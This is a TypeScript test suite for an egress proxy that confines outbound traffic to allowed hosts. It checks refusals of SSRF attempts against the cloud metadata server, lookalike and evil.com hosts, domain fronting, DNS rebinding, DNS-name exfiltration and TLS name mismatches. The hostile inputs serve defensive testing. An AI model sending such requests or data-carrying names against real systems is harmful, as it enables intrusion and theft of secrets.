import { once } from 'node:events';
import { mkdtempSync, rmSync } from 'node:fs';
import { connect as connectSocket, type Socket } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { connect as connectSecure } from 'node:tls';
import { afterAll, afterEach, beforeAll, describe, expect, it } from 'vitest';
import { isPublicAddress } from '../../../functions/platform/http/public-address.ts';
import { DEFAULT_EGRESS_LIMITS, type EgressSettings } from '../../../functions/tools/network/egress.ts';
import { type EgressProxy, openEgressProxy } from '../../../functions/tools/network/egress-proxy.ts';
import { LOOPBACK, openWeb, type Web } from './web-servers.ts';

/** Uses real connections over the proxy's real socket. Only the resolution of names is replaced. */
const folder = mkdtempSync(join(tmpdir(), 'egress-test-'));
let web: Web;
let proxy: EgressProxy;
let path: string;
let count = 0;

beforeAll(async () => {
  web = await openWeb((request, response) => {
    if (request.url === '/endless') return void setInterval(() => response.write(Buffer.alloc(65_536)), 1).unref();
    if (request.url === '/never') return;
    response.setHeader('x-saw', JSON.stringify([request.headers.host, request.headers['proxy-authorization'] ?? null]));
    response.end(`${request.method} ${request.url}`);
  });
});
afterAll(() => {
  web.close();
  rmSync(folder, { recursive: true });
});
afterEach(() => proxy[Symbol.asyncDispose]());

async function open(settings: Partial<EgressSettings> = {}): Promise<void> {
  count += 1;
  path = join(folder, `${count}.sock`);
  web.dialled.length = 0;
  proxy = await openEgressProxy(path, {
    allowedHosts: ['files.example.org', 'other.example.org'],
    limits: DEFAULT_EGRESS_LIMITS,
    addresses: LOOPBACK,
    dial: web.dial,
    ...settings,
  });
}

/** Sends bytes and returns everything that comes back until the connection is closed. */
async function say(text: string): Promise<string> {
  const socket = connectSocket({ path });
  socket.write(text);
  let answer = '';
  socket.on('data', (chunk: Buffer) => {
    answer += chunk.toString('latin1');
  });
  socket.on('error', () => undefined);
  await once(socket, 'close');
  return answer;
}

async function tunnel(authority: string): Promise<{ socket: Socket; head: string }> {
  const socket = connectSocket({ path });
  socket.on('error', () => undefined);
  socket.write(`CONNECT ${authority} HTTP/1.1\r\nhost: ${authority}\r\n\r\n`);
  const [head] = await once(socket, 'data');
  return { socket, head: head.toString('latin1') };
}

/** Requests `/` over TLS inside a tunnel. Returns the last line of the response, or the error. */
async function askSecurely(authority: string, servername: string, requestPath = '/'): Promise<string> {
  const { socket, head } = await tunnel(authority);
  if (!head.startsWith('HTTP/1.1 200')) return head;
  const secure = connectSecure({ socket, servername, ca: web.certificate });
  try {
    await once(secure, 'secureConnect');
    secure.write(`GET ${requestPath} HTTP/1.1\r\nhost: ${servername}\r\nconnection: close\r\n\r\n`);
    let answer = '';
    for await (const chunk of secure) answer += chunk.toString('latin1');
    return answer.split('\r\n\r\n').at(-1) ?? '';
  } catch (error) {
    return error instanceof Error ? error.message : 'failed';
  } finally {
    socket.destroy();
  }
}

const get = (url: string, host = new URL(url).host, more = '') =>
  say(`GET ${url} HTTP/1.1\r\nhost: ${host}\r\n${more}connection: close\r\n\r\n`);

describe('an allowed host', () => {
  it('is reached by TLS on port 443, which the proxy forwards unchanged', async () => {
    await open();
    expect(await askSecurely('files.example.org:443', 'files.example.org')).toContain('GET /');
    expect(await askSecurely('FILES.example.org:443', 'files.example.org')).toContain('GET /');
    expect(web.dialled).toEqual(['127.0.0.1:443', '127.0.0.1:443']);
    expect(proxy.report()).toMatchObject({ connections: 2, refused: [] });
    expect(proxy.report().bytes).toBeGreaterThan(1_000);
  });

  it('is reached by plain requests on port 80, without the headers that are meant for the proxy', async () => {
    await open();
    const answer = await get('http://files.example.org/a?b', undefined, 'proxy-authorization: Basic c2VjcmV0\r\n');
    expect(answer).toMatch(/^HTTP\/1\.1 200/);
    expect(answer).toContain('x-saw: ["files.example.org",null]');
    expect(answer).toContain('GET /a?b');
  });

  it('is reached by plain requests in a tunnel to port 80', async () => {
    await open();
    const { socket } = await tunnel('files.example.org:80');
    socket.write('GET /in HTTP/1.1\r\nhost: files.example.org\r\n\r\n');
    expect(String((await once(socket, 'data'))[0])).toContain('200 OK');
    socket.write('GET / HTTP/1.1\r\nhost: hidden.example.org\r\nconnection: close\r\n\r\n');
    expect(String((await once(socket, 'data'))[0])).toContain('403');
    expect(proxy.report().refused).toEqual([
      { host: 'files.example.org', reason: 'the Host header of the request names hidden.example.org', count: 1 },
    ]);
  });
});

describe('a refused connection is recorded and never opened:', () => {
  afterEach(() => expect(web.dialled).toEqual([]));

  it.each([
    ['another host', 'hidden.example.org:443'],
    ['a host that begins with the allowed one', 'files.example.org.evil.com:443'],
    ['the metadata server', '169.254.169.254:443'],
    ['the metadata server by name', 'metadata.google.internal:443'],
    ['an IPv6 address', '[::1]:443'],
    ['this machine', 'localhost:443'],
    ['another port', 'files.example.org:22'],
    ['no port', 'files.example.org'],
    ['a trailing dot', 'files.example.org.:443'],
    ['another plain host', 'hidden.example.org:80'],
  ])('a tunnel to %s', async (_what, authority) => {
    await open();
    const { head, socket } = await tunnel(authority);
    socket.destroy();
    expect(head).toMatch(/^HTTP\/1\.1 (403 Forbidden|400)/);
    if (head.includes('403')) expect(proxy.report().refused).toHaveLength(1);
  });

  it.each([
    ['another host', 'http://hidden.example.org/', 'hidden.example.org'],
    ['a Host header for another host (domain fronting)', 'http://files.example.org/', 'hidden.example.org'],
    ['another port', 'http://files.example.org:8080/', 'files.example.org:8080'],
    ['a password', 'http://user:word@files.example.org/', 'files.example.org'],
    ['an address', 'http://169.254.169.254/computeMetadata/v1/', '169.254.169.254'],
    ['an address as one number', 'http://2852039166/', '2852039166'],
    ['another scheme', 'ftp://files.example.org/', 'files.example.org'],
    ['a path instead of a URL', '/etc/passwd', 'files.example.org'],
  ])('a request with %s', async (_what, url, host) => {
    await open();
    expect(await say(`GET ${url} HTTP/1.1\r\nhost: ${host}\r\nconnection: close\r\n\r\n`)).toMatch(/^HTTP\/1\.1 403/);
    expect(proxy.report()).toMatchObject({ connections: 0, refused: [{ count: 1 }] });
  });

  it('a name outside the policy is not resolved either, so that names cannot carry data out', async () => {
    const resolved: string[] = [];
    const resolve = async (host: string) => {
      resolved.push(host);
      return [{ address: '10.0.0.1', family: 4 }];
    };
    await open({ addresses: { resolve, isAllowed: isPublicAddress } });
    await get('http://c2VjcmV0.evil.com/');
    (await tunnel('c2VjcmV0.evil.com:443')).socket.destroy();
    (await tunnel('c2VjcmV0.evil.com:80')).socket.destroy();
    await get('http://FILES.example.org/', 'files.example.org');
    expect(resolved).toEqual(['files.example.org']);
  });

  it('a request with two Host headers', async () => {
    await open();
    const answer = await say(
      'GET http://files.example.org/ HTTP/1.1\r\nhost: files.example.org\r\nhost: hidden.example.org\r\nconnection: close\r\n\r\n',
    );
    expect(answer).toMatch(/^HTTP\/1\.1 40[03]/);
  });

  it('a tunnel with TLS for another server, with TLS without a name, or without TLS', async () => {
    await open();
    expect(await askSecurely('files.example.org:443', 'hidden.example.org')).toMatch(/unrecognized name/i);
    expect(await askSecurely('files.example.org:443', 'other.example.org')).toMatch(/unrecognized name/i);
    expect(await askSecurely('files.example.org:443', '')).toMatch(/unrecognized name/i);
    const { socket } = await tunnel('files.example.org:443');
    socket.write('GET / HTTP/1.1\r\nhost: files.example.org\r\n\r\n');
    await once(socket, 'close');
    expect(proxy.report().refused.map(({ reason }) => reason)).toEqual([
      'the TLS in its tunnel asks for hidden.example.org',
      'the TLS in its tunnel asks for other.example.org',
      'the TLS in its tunnel names no server',
      'the bytes in its tunnel are not TLS',
    ]);
  });

  it.each([
    ['private', ['10.1.2.3']],
    ['of the metadata server', ['169.254.169.254']],
    ['mapped into IPv6', ['::ffff:169.254.169.254']],
    ['partly private', ['93.184.215.14', '127.0.0.1']],
  ])('a name whose addresses are %s', async (_what, addresses) => {
    const resolve = async () => addresses.map((address) => ({ address, family: address.includes(':') ? 6 : 4 }));
    await open({ addresses: { resolve, isAllowed: isPublicAddress } });
    expect(await get('http://files.example.org/')).toContain('files.example.org is not reached: not a public address.');
    expect((await tunnel('files.example.org:443')).head).toContain('403');
    expect(proxy.report().refused).toMatchObject([
      { host: 'files.example.org', reason: 'not a public address', count: 2 },
    ]);
  });
});

describe('limits', () => {
  it('connects to the checked address, even if the name resolves to another address later (DNS rebinding)', async () => {
    const answers = ['93.184.215.14', '127.0.0.1'];
    const asked: string[] = [];
    await open({
      addresses: {
        resolve: async () => [{ address: answers.shift() ?? '127.0.0.1', family: 4 }],
        isAllowed: isPublicAddress,
      },
      dial: (address, port) => {
        asked.push(address);
        return web.dial('127.0.0.1', port);
      },
    });
    expect(await askSecurely('files.example.org:443', 'files.example.org')).toContain('GET /');
    expect(asked).toEqual(['93.184.215.14']);
    expect((await tunnel('files.example.org:443')).head).toContain('403');
    expect(asked).toHaveLength(1);
  });

  it('closes all connections when the byte limit is exceeded', async () => {
    await open({ limits: { ...DEFAULT_EGRESS_LIMITS, bytes: 1_000_000 } });
    expect((await get('http://files.example.org/endless')).length).toBeLessThan(2_000_000);
    expect(await get('http://files.example.org/')).toContain('transferred too many bytes');
    expect(proxy.report().bytes).toBeLessThan(2_000_000);
  });

  it('limits the number of connections', async () => {
    await open({ limits: { ...DEFAULT_EGRESS_LIMITS, connections: 2 } });
    for (let round = 0; round < 2; round += 1) expect(await get('http://files.example.org/')).toContain('200 OK');
    expect(await get('http://files.example.org/')).toContain('too many connections');
  });

  it('ends an idle connection, a connection without a client hello, and a name that is never resolved', async () => {
    await open({ limits: { ...DEFAULT_EGRESS_LIMITS, idleMilliseconds: 200 } });
    expect(await get('http://files.example.org/never')).toBe('');
    await proxy[Symbol.asyncDispose]();
    await open({ limits: { ...DEFAULT_EGRESS_LIMITS, connectMilliseconds: 200 } });
    const { socket } = await tunnel('files.example.org:443');
    await once(socket, 'close');
    await proxy[Symbol.asyncDispose]();
    await open({
      limits: { ...DEFAULT_EGRESS_LIMITS, connectMilliseconds: 200 },
      addresses: { ...LOOPBACK, resolve: () => new Promise(() => undefined) },
    });
    expect(await get('http://files.example.org/')).toContain('not resolved in time');
  });

  it('limits the report of a port scan', async () => {
    await open();
    for (let host = 0; host < 150; host += 1) await get(`http://host${host}.evil.com/`);
    await get('http://host0.evil.com/');
    expect(proxy.report().refused).toHaveLength(100);
    expect(proxy.report().refused[0]).toMatchObject({ host: 'host0.evil.com', count: 2 });
  });

  it('closes open connections when it is disposed', async () => {
    await open();
    const { socket } = await tunnel('files.example.org:443');
    const secure = connectSecure({ socket, servername: 'files.example.org', ca: web.certificate });
    await once(secure, 'secureConnect');
    await Promise.all([proxy[Symbol.asyncDispose](), once(socket, 'close')]);
  });
});
